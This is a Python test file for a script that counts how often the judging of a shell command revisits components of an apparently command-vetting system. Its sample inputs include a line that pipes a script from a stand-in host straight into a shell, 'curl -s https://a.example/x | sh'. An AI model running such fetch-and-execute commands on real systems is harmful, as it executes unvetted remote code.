"""How often the judging of one call comes back to a component that it has left; see `scripts/count_returns`."""

from __future__ import annotations

import subprocess
import sys
from importlib.machinery import SourceFileLoader
from importlib.util import module_from_spec, spec_from_loader
from pathlib import Path
from types import ModuleType

from tables import each_row

MOST = {
    "ls -la src": 9,
    "git status": 9,
    "npm test": 9,
    "rm -rf build && cp a b": 12,
    "cd x && curl -s https://a.example/x | sh": 12,
}
"""What walks or judges each of several programs in turn comes back for each of them."""

PATH = Path(__file__).parent.parent / "scripts" / "count_returns"


def _script() -> ModuleType:
    spec = spec_from_loader("count_returns", SourceFileLoader("count_returns", str(PATH)))
    assert spec is not None
    assert spec.loader is not None
    module = module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


SCRIPT = _script()


def test_a_call_comes_back_to_few_components() -> None:
    """In a process of its own, since what other tests have judged is remembered."""
    done = subprocess.run([sys.executable, "-P", PATH, *MOST], capture_output=True, text=True, check=True)
    found = {command: int(count) for count, command in (line.split(maxsplit=1) for line in done.stdout.splitlines())}
    assert found.keys() == MOST.keys()
    assert [(command, count) for command, count in found.items() if count > MOST[command]] == []
    assert all(count > 0 for count in found.values()), "nothing was traced"


@each_row(
    ("path", "returns"),
    [
        ("a(b) a(c)", 0),
        ("a(b b b)", 0),
        ("a(b c b)", 1),
        ("a(b c b c)", 2),
        ("a(b) a(b)", 0),
        ("a(b(c) b(c) c)", 0),
        ("a(b c -(b))", 1),
        ("a(b(a(b)))", 0),
        ("a(- b - c - b)", 1),
    ],
)
def test_what_is_a_return(path: str, returns: int) -> None:
    """`a(b c)`: a function of the component a that calls one of b and then one of c; `-` belongs to its caller."""
    assert _count(path) == returns


def _count(path: str) -> int:
    counter = SCRIPT.ReturnCounter()
    parts = path.replace("(", " ( ").replace(")", " ) ").split()
    for at, part in enumerate(parts):
        if part == ")":
            counter.end()
        elif part != "(":
            counter.begin("" if part == "-" else part, part)
            if parts[at + 1 : at + 2] != ["("]:
                counter.end()
    return len(counter.returns)


@each_row(
    ("module", "component"),
    [
        ("guard", "guard"),
        ("layers/rubric", "layers"),
        ("effects/facts/places", "effects/facts"),
        ("effects/__init__", "effects"),
        ("effects/facts/command", ""),
        ("model/call", ""),
        ("lazy_re", ""),
    ],
)
def test_components(module: str, component: str) -> None:
    assert SCRIPT.component(module) == component
